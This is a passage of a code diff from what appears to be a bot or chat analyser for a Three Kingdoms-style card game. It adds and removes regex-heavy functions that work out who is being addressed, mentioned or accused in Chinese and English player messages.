+	if (!told || last?.kind === "seat" && /^[\s,]*$/.test(before.slice(last.end, told.index))) return false;
+	return /^[跟和同对]/.test(told[1] ?? "") ? TOLD_AFTER.test(after) : !/^(?:的|了|过)/.test(after);
+}
+function isAlone({ text, name, before, after, next }) {
+	if (!AT_HEAD3.test(before) || !/^\s+\S/.test(after)) return false;
+	const rest = after.trimStart();
+	const at = text.length - rest.length;
+	if (ORDERS.test(rest)) return true;
+	const turns = YOU7.exec(rest);
+	if (next?.start === at && next.kind === "seat") {
+		const behind = text.slice(next.end);
+		if (LUMPED.test(behind) || LUMPED_LATER.test(behind)) return false;
+		if (ONE_ASKED_ABOUT.test(behind) || ASKS3.test(behind)) return true;
+		return turns !== null || !THIRD2.test(rest) && !/的[.!?~]*$/.test(rest) && (OFFICE3.test(name) || BIDS2.test(rest));
+	}
+	if (ASKS_OTHER.test(rest) || /^我/.test(rest) && ASKS3.test(rest) && !MIND.test(rest)) return true;
+	if (turns === null || OF_OTHERS.test(rest.slice(turns.index)) || MIND.test(rest)) return false;
+	return !DOES_TO_YOU.test(rest) && !/^[他她它]/.test(rest);
+}
+const isAskedOf = ({ before, after }) => CLAUSE_BEGINS.test(before) && ASKED_OF2.test(after);
+
+// src/chatter/moves/calls.ts
+const HAN3 = /[\u3400-\u9fff]/;
+const AND_YOU = /^(?:那|所以|还有|so|and|but|ok|well)?[\s,]*(?:你呢|你说呢|(?:what|how) about (?:you|u)|and (?:you|u))[\s,]*$/;
+const BETWEEN3 = /^[\s,:]+$/;
+const YOU_OF = /^\s*(?:你|您)(?!们|俩|两)(?!(?:也|就|先|可|给我|赶紧)*(?:别|快|来|帮|救(?!不)|闭|少|滚|等着|过来))/;
+const MAKES_OF = /^\s*(?:怎么|咋|如何)(?:看|想|说)/;
+const ABOUT_EN = /^\s+(?:(?:what|how) (?:do|did|would) )?(?:you|u|ya) (?:think|trust|believe|reckon|guess)\b/;
+function callsIn(text, mentions) {
+	const words = mentions.reduceRight((rest, { start, end }) => `${rest.slice(0, start)} ${rest.slice(end)}`, text);
+	const [isCalled, isOrdered] = HAN3.test(words) ? [calledInChinese, isOrderedInChinese] : [calledInEnglish, isOrderedInEnglish];
+	const alone = mentions.filter(({ kind }) => kind === "seat").length === 1;
+	const put = mentions.findIndex(({ kind, start }) => kind === "seat" && AND_YOU.test(text.slice(0, start)));
+	return mentions.map(({ kind, start, end }, i) => {
+		if (kind !== "seat" || put >= 0 && i > put) return null;
+		if (i === put) return "apart";
+		const at = {
+			text,
+			name: text.slice(start, end),
+			before: text.slice(0, start),
+			after: text.slice(end),
+			last: mentions[i - 1],
+			next: mentions[i + 1],
+			alone
+		};
+		if (isAskedAbout(at) || regarded(at) && calledBefore(text, mentions.slice(0, i))) return "about";
+		if (isCalled(at) || standsApart(at)) return "apart";
+		const [first, last] = rowAround(i, text, mentions);
+		if (last.end < text.length && isOrdered(text.slice(0, first.start), text.slice(last.end), first !== last))
+			return "apart";
+		return isPutTo(at) ? "within" : null;
+	});
+}
+const regarded = ({ before, after }) => /[,.!?;\s]$/.test(before) && /^\s*你(?:到底|究竟|还)*(?:当|觉得|怎么看|看|信|怀疑)/.test(after);
+const calledBefore = (text, mentions) => mentions.some(
+	({ kind, start, end }) => kind === "seat" && BEGINS.test(text.slice(0, start)) && /^\s*你/.test(text.slice(end))
+);
+function rowAround(i, text, mentions) {
+	const isJoined = (a, b) => a?.kind === "seat" && b?.kind === "seat" && JOINS.test(text.slice(a.end, b.start)) && !/^[你您我他]/.test(text.slice(b.start));
+	let from = i;
+	let to = i;
+	while (isJoined(mentions[from - 1], mentions[from])) from--;
+	while (isJoined(mentions[to], mentions[to + 1])) to++;
+	const one = mentions[i];
+	return [mentions[from] ?? one, mentions[to] ?? one];
+}
+const JOINS = /^(?:\s*(?:[、&]|和|跟|与|and)\s*)?$/;
+function isAskedAbout({ text, before, after, last }) {
+	if (last?.kind !== "seat" || !BETWEEN3.test(before.slice(last.end))) return false;
+	if (!/(?:^|[.!?])\s*(?:喂|嘿|诶|欸|哎|那|所以|hey|yo|ok|so)?[\s,]*$/.test(text.slice(0, last.start))) return false;
+	return YOU_OF.test(after) || MAKES_OF.test(after) || ABOUT_EN.test(after);
+}
+
+// src/chatter/moves/people.ts
+function mentionsIn(text, between) {
+	const { scene, from, hearer, he } = between;
+	const places = foundIn(text, scene, from);
+	const calls = callsIn(text, places);
+	let you = hearer;
+	const isOwner = (i) => {
+		const [one, next] = [places[i], places[i + 1]];
+		return typeof one?.seat === "number" && next?.seat === void 0 && /^[上下]家/.test(next?.words ?? "") && /^的?$/.test(text.slice(one.end, next?.start));
+	};
+	const ownerOf = (i) => isOwner(i - 1) ? places[i - 1]?.seat ?? void 0 : void 0;
+	const found = places.flatMap(({ kind, words, start, end, seat: known }, i) => {
+		const seat = known !== void 0 ? known : kind === "you" ? you : neighbourOf(
+			scene,
+			/^(?:你|your)/.test(words) ? you : ownerOf(i) ?? from,
+			/上家|right/.test(words) ? -1 : 1
+		);
+		if (kind === "seat" && seat === null || isOwner(i)) return [];
+		const how = calls[i] ?? null;
+		const called = how === "apart";
+		if (called && seat !== from) you = seat;
+		return [{ kind, seat, start, end, called, how }];
+	});
+	const named = found.filter(
+		({ kind, end }) => kind !== "self" && kind !== "you" || !found.some(
+			({ seat, start }) => seat === scene.table.lord && (kind === "self" ? start === end : start > end && /^ (?:own )?$/.test(text.slice(end, start)))
+		)
+	);
+	return pronouns(text, named, { scene, from, he });
+}
+const IS_JUDGED = /^(?:就|也|肯定|绝对|八成|多半|准|一定|到底)*(?:[是站]?(?:哪|啥|什么)(?:头|边|身|成)|是(?:个|真|铁)?(?:[忠反内]|保皇|好人|自己人)|[忠反内](?:贼|臣|奸)?还是)|^(?:'s| is| was| must be) (?:a |an |the )?(?:spy|rebel|reb|traitor|loyal)/;
+const DONE_TO_EN = /\b(?:[a-z]+ed|hit|struck|shot|took|stole|gave|on|at|off)\s$/;
+const BLANK = /(?<=[\u3400-\u9fff]) (?=[^ ]*$)/;
+const CLAUSE_ENDS = [",", ".", "!", "?", ";", ":"];
+function pronouns(text, mentions, { scene, from, he: before }) {
+	const spokenOf = ({ kind, called, seat }) => kind === "seat" && !called && seat !== from;
+	return mentions.map((mention, i) => {
+		if (mention.kind !== "he") return mention;
+		const earlier = mentions.slice(0, i).filter(spokenOf);
+		const turned = /是$/.test(text.slice(0, mention.start));
+		const blank = BLANK.exec(text.slice(0, mention.start))?.index ?? -1;
+		const clause = Math.max(blank, ...CLAUSE_ENDS.map((mark) => text.lastIndexOf(mark, mention.start)));
+		const object = DONE_TO.test(text.slice(0, mention.start)) || /^(?:him|her|them)$/.test(text.slice(mention.start, mention.end));
+		const near = turned || object ? earlier.filter(({ start }) => start < clause) : earlier;
+		const doers = near.filter(
+			({ start }) => !DONE_TO.test(text.slice(0, start)) && !/的是$/.test(text.slice(0, start)) && !DONE_TO_EN.test(text.slice(0, start))
+		);
+		const judged = IS_JUDGED.test(text.slice(mention.end)) && doers.length > 0;
+		const [lord, rest] = [scene.table.lord, judged ? doers : near];
+		const last = rest.filter(({ seat }) => seat !== lord).pop() ?? rest.pop() ?? // "4 killed him": nor the one who does it; "砍完吴苋又救他" is whoever had it done to them.
+		(object ? earlier.filter(({ start }) => [DONE_TO, DONE_TO_EN, /[完过]$/].some((done) => done.test(text.slice(0, start)))).pop() : earlier.pop());
+		return { ...mention, seat: last?.seat ?? before };
+	});
+}
+
 // src/chatter/plan/excluded.ts
 const OF_ALL = new Set(["wugu", "taoyuan", "nanman", "wanjian"]);
 function isPlainlyFalse(wrong, { scene, text }) {
@@ -30423,16 +30855,38 @@ function isPlainlyFalse(wrong, { scene, text }) {
 		return !scene.uses.some((use) => use.by === by && use.name === card);
 	return false;
 }
+const HAPPENED = /[了过着掉给替帮]|顺便|你.{1,4}我(?:$|[的一])|干[嘛啥什]|凭|[咋怎]|为[啥什何]|也[顺拆打砍杀]|刚|(?<!有[多用]?)的|上(?:来|[一轮回])|[那这][刀张下一手把回]|[一两三]刀|昨|[a-z]/;
+const WISHED3 = /你?让我|如果|要是|行不|好不|稳不|[该要会能]不|\b(?:if|should|(?<!why )would|let me|gonna|going to)\b/;
+function isSaidPlainly({ by, to, kind, card }, { text: joined, spaced: text = joined, scene, from, me }) {
+	const named = mentionsIn(text, { scene, from, hearer: me, he: null });
+	const plain = named.filter((one) => one.kind !== "he");
+	const clauses = clausesOf(text);
+	return clauses.some(({ text: clause, start, end }, i) => {
+		const within = named.filter((one) => one.start >= start && one.end <= end);
+		const stands = (seat) => within.some((one) => one.seat === seat && one.kind !== "he");
+		const before = clauses[i - 1]?.start ?? 0;
+		const isOnly = (seat) => plain.length === named.length && plain.every((one) => one.seat === by || one.seat === to) && plain.some((one) => one.seat === seat && one.start >= before && one.kind === "seat") && within.some((one) => one.seat === to && one.kind === "seat");
+		const goesOn = (seat) => /^(?:又|还|再|顺便|然后)/.test(clause) && plain.find((one) => one.start >= before && one.start < start)?.seat === seat;
+		const did = (seat) => stands(seat) || plain.some((one) => one.seat === seat && (one.called && one.start < end || kind === "death")) || isOnly(seat) || goesOn(seat);
+		if (by !== void 0 && !did(by) || to !== void 0 && !stands(to)) return false;
+		if (WISHED3.test(clause) || !HAPPENED.test(clause)) return false;
+		const verbs = verbsIn(
+			clause,
+			within.map((one) => one.start - start)
+		).map(({ start: at, end: stop }) => /[a-z]+|./.exec(clause.slice(at, stop))?.[0]);
+		return new Set(verbs).size === verbs.length && (card !== "wuxie" || within.every((one) => one.kind !== "he"));
+	});
+}
 const isCounted = ({ less = [], denied }) => less.length > 0 || denied === true;
 const isWhole3 = ({ by, to }) => by !== void 0 && to !== void 0 && by !== to;
 const isFlat = (wrong, asked) => isCounted(wrong) || isWhole3(wrong) && isExcluded(wrong, asked);
-const HARM2 = new Set(["aimed", "hit", "dying", "steal", "discard", "death"]);
+const HARM3 = new Set(["aimed", "hit", "dying", "steal", "discard", "death"]);
 const HELP2 = new Set(["heal", "rescue", "give", "draw", "aimed", "wuxie", "steal", "discard"]);
 function isAkin({ kind }, fact) {
 	if (kind === "wuxie" || kind === "death" || kind === "throw") return fact.kind === kind;
-	if (kind === "aimed") return HARM2.has(fact.kind) || HELP2.has(fact.kind);
+	if (kind === "aimed") return HARM3.has(fact.kind) || HELP2.has(fact.kind);
 	if (isLoss({ kind })) return isLoss(fact) || TAKING_CARDS.has(fact.card ?? "") || isHandover(fact);
-	if (HARM2.has(kind)) return HARM2.has(fact.kind) && fact.good !== true;
+	if (HARM3.has(kind)) return HARM3.has(fact.kind) && fact.good !== true;
 	return HELP2.has(fact.kind) && fact.good !== false;
 }
 function isExcluded(wrong, { scene }) {
@@ -30636,380 +31090,6 @@ function afterSaying(spoken, planner, line) {
 	return planner?.tick(line) ?? [];
 }
 
-// src/chatter/moves/place.ts
-const BEGINS = /(?:^|[,.!?;:…~]|[\u3400-\u9fff]\s)\s*$/;
-const YOU5 = /你(?!们)|您|妳|阁下|\b(?:you|u|your|youre|ur|ya)\b/;
-const DONE_TO = /(?:[打杀砍拆顺救收给对跟和把被帮保护信是像叫让]了?|[逮盯追冲揪围按]着)$/;
-const OFFICE = /^(?:主公?|主帅|老大|老板|大王|陛下|皇上|圣上|(?:the |my |our )?lord|boss|the (?:king|emperor|zhu)|zhugong|your majesty|my (?:liege|king))$/;
-
-// src/chatter/moves/called-upon.ts
-const AT_HEAD = /^(?:@|喂|嘿|嗨|哎|诶|欸|那个|请问|请|谢谢|多谢|对不起|抱歉|不好意思|你好|hey|hi|hello|yo|oi|thanks|thank you|ty|thx|sorry|my bad|please|卧槽|我靠|不是|哇|好家伙|所以|那么?|话说|其实|不过|但是|而且|gg|lol|wtf|omg|wow|damn|bruh|ugh|nah|wait|hang on|hold on|哈{2,}|(?:(?:ok|okay|fine|well|so|now|and|then|alright|all right|wait|relax|chill|come on|look|listen|dude|bro|man)(?:[\s,]+|(?=[:@]|$)))+)?[\s,:]*@?$/;
-const CALL_BEFORE = /(?:^|[,.!?;:])\s*(?:卧槽|我靠|靠|哇|不是|好家伙|诶诶|wtf|omg|wow|damn|wait|bro|dude|man|yo|@|喂|嘿|嗨|哎|诶|欸|那个|请问|我说|hey|hi|hello|yo|oi|ok|so|and|but|well|please|sorry|my bad|thx|ty|thanks|thank you|谢谢|多谢|对不起|抱歉|你好)?[\s,]*$/;
-const SAID_OF = /^\s*,\s*(?:(?:肯定|绝对|一定|必定?|铁|妥妥|多半|八成|大概|应该|显然|明显)(?:就)?(?:是|反|忠|内)|是(?!不是|你|谁|吗|吧)|[反忠内](?:贼|臣|奸)?(?:[,.!了啊吧呀]|$)|不对劲|可疑|有问题|装|跳反|不像|像(?!我)|一直|刚才|上回合|definitely|clearly|obviously|is |was |must be|looks|seems)/;
-const PRAISED = /\b(?:good job|nice (?:one|job|play|kill|save|move)|well (?:done|played)|gj|bravo) $/;
-const CALLS_AFTER = /^\s*(?:说(?:真话|实话|句话)|老实说|给个准话|回个?话|表个态|先?(?:说|讲|报)(?:说|讲|一下|个|句|啥|什么)|(?:deal|truce|listen|bro|dude|mate|promise|tell (?:me|us)|give (?:me|us)|show (?:me|us)|what even|why|how come)\b|[,:]|[!?]|你(?!们)|您|阁下|(?:you|u|are you|did you|do you|why did you|can you)\b)/;
-const PUT_TO = /^\s+(?:(?:why|y|what|how|when|where|who|which|if|unless|so|i)(?:'?(?:d|s|re|ll))?\b[^,.!?]{0,24}\b(?:you|u|ya|your|ur)|(?:will|would|could|should|did|do|are|were|have|can|r)\s+(?:you|u|ya))\b/;
-const SORRY_NEXT = /^[\s,]+[^,.!?\s]{1,10}(?:对不起|对不住|抱歉|谢了|谢谢)/;
-const ONLY_CALLED = /^\s*(?:(?:救我|帮我)(?![^,.!?\s]{0,6}(?:[过命次]|了(?!他|她|它)))|救命|别打我|信我|自己人|我是|我真是)/;
-const CALL_AFTER = /^\s*(?:[,:!?;]|$|你|您|妳|阁下|[救帮](?![^,.!?\s]{0,8}[了过])|别|快(?!没|死|不行|要|挂|凉|完|输|倒|空|扛|撑)|(?:跟我|和我|咱)|我(?:跟[你您]|告诉|看得|可[一没])|请|来个|来一|给(?!你|他|她|它)|信我|自己人|小心|加油|稳|看(?:下|一下|看|好)|说(?:真话|实话|句话)|老实说|给个准话|表个态|为什么|为啥|凭什么|干嘛|\b(?:you|u|ur|please|pls|thx|thanks|ty|sorry|nice|gj|deal|truce|listen|promise(?! (?:was|is|from))|tell (?:me|us)|give (?:me|us)|show (?:me|us)|stop|chill|relax|calm down|remember|answer|explain|spill|what (?:even )?(?:is|are|was|were|do|did|about)|why|how (?:come|do|did|about|much|many)|where|which|(?:dont|do not) (?:you|u)|did (?:you|u)|do (?:you|u)|can (?:you|u)|will (?:you|u)|help|save|don't|do not|stop|why did you|are you|can you)\b)/;
-const BIDDEN = /^\s*先?(?:说|讲|报)(?:说|讲|一下|个|句|啥|什么)|^\s*帮我[^,.!?]{1,8}(?:呗|行不|好不)|^\s+(?:放(?:我|过)|救(?:我|一下|主)|给我|帮(?:我|忙|主)|让(?:一下|我)|留(?:桃|闪|我|着)|信我|交(?:桃|闪|牌)|报(?:个|一下|身份)|醒醒|撤(?!了))|^\s*(?:(?:先|也|就|可|都|下[把次局回]|以后|等下|待会�?|千万)*(?:别(?!人|的|处|家|说)|不要|记得|记住|认准)|说话(?![^\s,.!?])|(?:赶紧|赶快)(?![，,])|快(?:来|救|打|杀|砍|出|收|上|动手|点(?!死|没)|跑|看|说)|说(?:真话|实话|句话)|老实说|给个准话|表个态|听我|[救帮]我(?![^,.!?\s]{0,6}[了过])|信我|骂(?:我)?吧|拜托|求你|我(?:真的?|可|确实)?(?:不是(?!针对|冲)|对不起|对不住)|我[^,.!?\s]{1,6}[你您])/;
-const CALL_AT_END = /(?:[,!?;]|\b(?:thanks|thank you|sorry|hi|hello|hey|you|bye|help)|谢谢|多谢|抱歉|对不起|你好|求你了?|拜托了?)\s*$/;
-const SUMMONED = /^\s*(?:到你|该你|轮到你|补(?:一)?刀(?=[啊吧呀!,.]|$)|收(?:他|她)?人头|上(?=[啊吧呀!,.]|$)|冲(?=[啊吧呀!,.]|$)|动手(?=[啊吧呀!,.]|$)|你看着办|(?:能不能|可不可以|能否|可否)(?:先|就|快|赶紧)?(?:别|不(?!可以)|给|帮|让|少|(?:救|留)(?=[^?吗])))/;
-const BIDDEN_EN = /^\s(?:(?:please|pls|just) )*(?:(?:finish|kill|heal|save|leave|attack|slash|get|help|stop|focus) (?:him|her|them|it|me|us|\d|seat \d|the lord)\b(?! (?:is|was|again|every))|wait\b|watch (?:out|this|him|her)\b|look (?:out|at)\b|focus\b|(?:please|pls) \w+)/;
-const PRESSED_EN = /^\s*,\s*(?:truce|deal)\s*\?*$/;
-const NO_OBJECT_EN = /(?:\d|[a-z]{3,}) $/;
-const VERB_EN = /\b(?:kill|hit|attack|slash|strike|help|save|heal|finish|about|on|with|for|to|at|is|are|and) $/;
-const HAILED_EN = /\b(?:let'?s go|come on|go go|(?:there|here) (?:you|ya|u) go|(?:\w+ing|to|at|about|with) (?:you|u))\s$/;
-const LISTED_NEXT = /^\s*,\s*(?:\d|[一二三四五六七八九])号?(?:都|全|也|[,、])/;
-const PUT_NEXT = /^\s*,\s*(?:我|咱|any last words|please|pls\b)/;
-const COURTESY_BEFORE = /(?:(?<![不别要])谢[谢了啦]?|多谢|感谢|辛苦|对不起|对不住|抱歉|\b(?:thanks|thank you|thx|ty|sorry|sry|soz|my bad|apologies|congrats|good (?:job|man|lad|girl|boy)|nice (?:one|job|play|kill|save|move)|well (?:done|played)|gj|bravo))\s*$/;
-const COURTESY_AFTER = /^[\s,]*(?:我|真的?|实在|这[回次下]|刚才?)*(?:对不起|对不住|抱歉|不好意思|谢(?!幕)|辛苦)/;
-function turnsTo(after) {
-	const you = YOU5.exec(after);
-	return you !== null && !/在[打杀砍拆顺追盯][着了]?$/.test(after.slice(0, you.index));
-}
-const OPINES = /^\s*(?:怎么|咋|到底|自己|那边|现在|先|还|也|都|是|真的?)*(?:觉得|认为|怀疑|信我|打算|准备|想|定(?:个|夺)|指(?:个|条)|表(?:个)?态|决定)|^\s+(?:who|what|how|where)(?:'?s)?\b/;
-const ASKS_OR_BIDS = /谁|哪|怎么|咋|什么|啥|吗|呢|[不?]|拍板|[个下](?:板|令|话|态|主)|做主|\b(?:who|what|how|where)/;
-function standsApart({ name, before, after }) {
-	if (/^[@#]/.test(name) || /@\s*$/.test(before)) return true;
-	if (isNone(name, after)) return false;
-	if (CALL_BEFORE.test(before) && (CALLS_AFTER.test(after) || PUT_TO.test(after))) return true;
-	if (BEGINS.test(before) && ONLY_CALLED.test(after)) return true;
-	if (PRAISED.test(before) || CALL_BEFORE.test(before) && SORRY_NEXT.test(after)) return true;
-	if (/^你(?!们|俩)/.test(after) && !DONE_TO.test(before)) return true;
-	return /^[\s.!?~]*$/.test(after) && /[,!?]\s*$/.test(before);
-}
-const isNone = (name, after) => SAID_OF.test(after) || /^(?:the|our) /.test(name);
-const THANKS_AHEAD = /^(?:\w+,? )?(?:thanks|thank you|ty|thx|tysm)\b[^.!?]*\s$/;
-function isPutTo({ text, name, before, after, alone }) {
-	if (isNone(name, after)) return false;
-	const office = OFFICE.test(name);
-	if (office && /^[\u3400-\u9fff]$/.test(before) && CALL_AFTER.test(after)) return true;
-	if (/[?!.,]\s*$/.test(before) && /^\s/.test(after) && /[\u3400-\u9fff]/.test(text)) return true;
-	if (BEGINS.test(before) && /^\s*(?:你(?!们)|您|妳|阁下)/.test(after)) return true;
-	if (COURTESY_BEFORE.test(before) && !(/[\u3400-\u9fff]\s$/.test(before) && /^[\u3400-\u9fff]/.test(after)))
-		return true;
-	if ((BEGINS.test(before) || AT_HEAD.test(before)) && COURTESY_AFTER.test(after)) return true;
-	if (BEGINS.test(before) && BIDDEN.test(after)) return true;
-	if (office && BEGINS.test(before) && /^\s*(?:这(?:一)?(?:轮|回合)|快|赶紧|直接|可以)/.test(after) && !/[了过]|^[^,.!?]*(?:又|刚|被|连着|已经)/.test(after))
-		return true;
-	if (AT_HEAD.test(before) && BIDDEN.test(after)) return true;
-	if (BEGINS.test(before) && SUMMONED.test(after)) return true;
-	if ((AT_HEAD.test(before) || BEGINS.test(before)) && BIDDEN_EN.test(after)) return true;
-	if (PRESSED_EN.test(after) && NO_OBJECT_EN.test(before) && !VERB_EN.test(before)) return true;
-	if (HAILED_EN.test(before) && /^\s*(?:[,.!?]|$)/.test(after)) return true;
-	if (/[!?.]\s*$/.test(before) && /^\s*,/.test(after) && (YOU5.test(after) ? !LISTED_NEXT.test(after) : PUT_NEXT.test(after)))
-		return true;
-	if (office && THANKS_AHEAD.test(before) && /^\s*(?:[,.!?]|$|u\b|ur\b|you)/.test(after)) return true;
-	if (AT_HEAD.test(before) && /^(?:老?兄|老?哥|老弟|贤弟|姑娘|将军|先生|大人|大侠)(?=[,!?])/.test(after)) return true;
-	if (/[\u3400-\u9fff]\s*,\s*$/.test(before) && /^\s*,(?!\s*(?:\d|[一二三四五六七八]号))/.test(after) && YOU5.test(text))
-		return true;
-	if (office && /\b(?:then|so|and|but)\s$/.test(before) && /^\s(?:please|pls|you|u)\b/.test(after)) return true;
-	if (/[a-z\d],\s*$/.test(before) && /^\s*(?:[.!?]|$)/.test(after)) return true;
-	if (AT_HEAD.test(before) && (CALL_AFTER.test(after) || alone && turnsTo(after))) return true;
-	if (AT_HEAD.test(before) && PUT_TO.test(after)) return true;
-	if (AT_HEAD.test(before) && OPINES.test(after) && ASKS_OR_BIDS.test(after)) return true;
-	if (/^\s*,\s*(?:you|u|your|ur)\b/.test(after)) return true;
-	if (office && /[,;]\s*$/.test(before) && /^\s*[,.!?;]/.test(after)) return true;
-	return /^[\s.!?~]*$/.test(after) && CALL_AT_END.test(before);
-}
-
-// src/chatter/moves/calls-en.ts
-const YOU6 = /\b(?:you|u|ya|your|ur|youre|yourself|urself|uve|youve)\b/;
-const HE2 = /\b(?:he|him|his|she|her|they|them)\b/;
-const MARK2 = "(?:^|[,.!?;:~)])\\s*";
-const LAST_CLAUSE = /[^,.!?;:~)]*$/;
-const CLOSES = /^\s*(?:(?:lol|lmao|lmfao|haha\w*|bro|bruh|dude|man|pls|please|ok|okay|tho|though|smh|ffs|wtf|huh|eh|right)\b\s*)*(?:[,.!?;:~)]|$)|^\s+(?:you|u|ur|youre|you're)\b/;
-const PREPOSITION = "about|on|onto|upon|with|without|for|to|at|of|off|by|from|before|after|like|than|over|against|in|into|under|around|behind|through|towards?|near|beside|except|but|besides|between|until|till|per|as|via|plus|minus|versus|vs";
-const LINK2 = "and|or|nor|not|is|isnt|isn't|are|was|wasnt|wasn't|were|be|being|been|its|it's|he's|hes|she's|shes|that's|thats|whos|who's|im|i'm|if|when|while|because|cause|cuz|since|unless|that|where|whether|both|either|neither|only|just|even|maybe|probably|perhaps|possibly|exactly|least|most|last|first|round|turn|(?<!\\b(?:my|your|ur|his|her) )seat|player|number|a|an|the|this|these|those|all|every|each|some|any|no|more|other|another|my|our|your|ur|his|her|their|whose|which|will|would|can|could|should|does|did|do|has|have|had|got|gets?|gotta|gonna|wanna";
-const DEED3 = "(?:kill|hit|attack|slash|strik|struck|help|sav|heal|finish|trust|believ|suspect|target|focus+|burn|steal|stole|stolen|rob|hat|lik|lov|want|need|think|thought|follow|back|protect|support|fear|blam|accus|ignor|spar|duel|chain|see|saw|seen|keep|kept|know|knew|known|check|watch|tak|took|taken|giv|gave|given|mak|made|let|leav|left|tell|told|ask|call|pick|choos|chose|guess|bet|play|us|draw|drew|lose|lost|cost|deal|dealt|discard|drain|cut|lock|shut|bully|push|poison|zap|shoot|shot|nuk|wast|snatch|disarm|dismantl|tear|tore|sham|remember|forget|forgot|mention|name|say|said|read|show|prov|admir|thank|guard|cover|cheer|envy|pass|skip|beat|wipe|smack|punch|fight|fought|fac|counter|block|negat|nullif|borrow|return|feed|fed|respect|hunt|track|mark|tag|ditch|put|plac|rank|rat|peach|indulg|null|drop|sid|team|pok|bust|expos|frame|threaten|provok|mock|insult|bore|own|ow|mean|meant|become|became|seem|look|sound|send|sent|rais|low|reach|stay|call)(?:e|es|s|d|ed|ied|ies|ing|ting|ping|bing|ling)?";
-const TAKES = new RegExp(`\\b(?:${PREPOSITION}|${LINK2}|${DEED3})\\s$`);
-const OF_SOMEBODY = new RegExp(`\\b(?:${PREPOSITION}|${LINK2})\\s$`);
-const THING = /\b(?:a|an|the|my|your|ur|any|some|one|no|that|this|another)\s(?:(?:right|wrong|good|bad|nice|big|whole|next|last|same|single|damn|fucking|little|bit of)\s)?\w+\s$/;
-const GIVES = /\b(?:give|gave|owe|owed|dealt|cost|handed|lend|lent|healed|hit|draw|drew) (?:you|u|ya|me|him|her|us|them|it) $/;
-const PARTICIPLE = /\b\w+(?:ing|ed)\s$/;
-const WHOLE3 = /\b(?:kidding|joking|doing|thinking|going|talking|losing|winning|dying|bluffing|lying|trolling|griefing|cheating|waiting|sleeping|laughing|crying|smiling|nothing|something|anything|everything|thing|scared|tired|worried|screwed|doomed|finished|cooked|toasted|fried|pleased|satisfied|relieved|surprised|confused|impressed|rigged|dead|red|need)\s$/;
-const ASKS_OBJECT = /\b(?:what|whatcha|wut|wat|who|whom|wyd)(?:'?(?:s|re|d))?\s+(?:(?:do|did|are|r|were|would|will|should|can|could|have|must)\s+)?(?:you|u|ya)\b(?:(?!\b(?:i|he|she|they|we|before|after|when|if|because|cuz)\b)[^,.!?;])*\s$/;
-const WHAT_FOR2 = /\b(?:what(?:'?s| was| is)?\s+(?:(?:that|this|it|all that)\s+)?(?:all\s+)?for|what(?:'?s| is| was) (?:that|this))\s$/;
-const EXCLAIMS = new RegExp(
-	`${MARK2}(?:\\w+\\s+)?(?:that'?s|that was|this is|how|so|too|pretty|very|damn|real|really|bit)\\s+(?:(?:so|too|pretty|very|really|kinda|a bit|a little|just|super|fucking|freaking)\\s+)*(?:rough|tough|rude|cold|harsh|mean|crazy|insane|wild|nuts|brutal|sick|nice|great|awesome|cool|sweet|clever|smart|dumb|stupid|silly|bold|brave|sus|fishy|weird|odd|strange|unlucky|lucky|sad|funny|hilarious|fair|unfair|enough|bs|bullshit|cheap|dirty|wrong|right|true|cap|disgusting|gross|fire|clean|smooth|slick|evil|savage|ruthless|impressive|good|bad|awful|terrible|annoying|petty|toxic|lame|sneaky|shady|greedy|low|grim|nasty|filthy|foul|heartless|unreal|epic|pathetic|weak|sloppy|spicy|genius)\\s$`
-);
-const CHEERS = /\b(?:nice|good|great|sick|clean|dirty|cheap|bold|lovely|sweet|solid|clutch|huge|big|what an?) (?:\w+ )?(?:move|play|shot|hit|one|try|kill|save|card|turn|job|peach|duel|slash|block|steal|luck|game|call|read|timing|work|draw)\s$/;
-const THANKED = /\b(?:thanks|thank you|thx|ty|cheers) (?:a lot|so much|again|for (?:nothing|that|it|the \w+|\w+ing (?:me|us|him|her|it|that)))\s$/;
-const CRIED = new RegExp(
-	`${MARK2}(?:(?:oh|ok|well|so|and|but|yo|hey|aw+|lol|haha+)\\s+)*(?:wyd|wtf|wth|bruh|stop (?:it|that)|hang (?:in there|tight)|stay (?:alive|strong|with (?:me|us))|cut it out|knock it off|easy|careful|relax|chill|calm down|hands off|back off|behave|watch (?:it|out)|look out|(?:you|u|ur|your|youre|you're) (?:turn|up|next|move)|truce|deal|(?:just )?(?:surrender|give up)(?: now)?|last chance|final (?:warning|offer|chance)|help me|save me|heal me|trust me|spare me|believe me|forgive me|why me|do it|don'?t do it|speak up|spill it|fess up|out with it|answer me|wake up|hurry(?: up)?|your move|well played|bye|see (?:ya|you|u)|good luck|congrats|(?:you|u) too|exactly|agreed|no way|seriously|shut up|admit it|just admit it|prove it|explain)\\s$`
-);
-const BIDDEN_WHOLE = /^(?:\w+\s+){0,2}?(?:don'?t|do not|please|pls|let'?s|lets|let|stop|kill|hit|get|save|heal|spare|trust|believe|help|finish|give|leave|focus|take|slash|attack|watch|go|come|we|i|just|thanks|sorry)\b[^,.!?;]*\b(?:me|him|her|it|us|live|go|die|win|alone|now|again|please|pls|first|instead|already|there|here|too|then|today|fast|quick|asap|turn)\s$/;
-const BIDDEN_US = /^(?:\w+\s+){0,2}?(?:don'?t|do not|please|pls|let|stop|spare|trust|believe|help|leave|watch|come|save|heal)\b[^,.!?;]*\b(?:me|him|her|it|us|alone|again|already|please|pls)\s$/;
-const BIDS = /^(?:\w+\s+){0,2}(?:thanks|thx|ty|cheers|kill|hit|get|slash|attack|finish|save|heal|focus|duel|burn)\b/;
-const OFFICE2 = /^(?:lord|my lord|boss|my king|my liege|your majesty)$/;
-const AT_HEAD2 = /^(?:(?:honestly|seriously|actually|literally|frankly|tbh|ngl|aw+|oh|ah|o+f|lm+f?ao|lol|(?:ha)+h?|hm+|come on|c'?mon|excuse me|listen|look|damn|man|dude|bro|bruh|please|pls|for real|real talk|my friend|jeez|ouch|sheesh|welp|alright|all right|ok|okay|so|and|but|well|now|then|also|wait|hold on|hold up|hang on|yo|hey|hi|oi|btw|no offense|shut up|stfu|relax|chill|easy|no|nah|yes|yeah|yep|ya|sure|fine|cool|question|sup|gg|wtf|wth|omg)[\s,!]+)*$/;
-const HAILED = /(?:^|[,.!?;:\s])(?:come on|c'?mon|excuse me|hey|yo|oi|listen|dude|bro|shut up|stfu|relax|chill|hold on|hold up|hang on|easy|no offense|not cool|real talk)[\s,!]*$/;
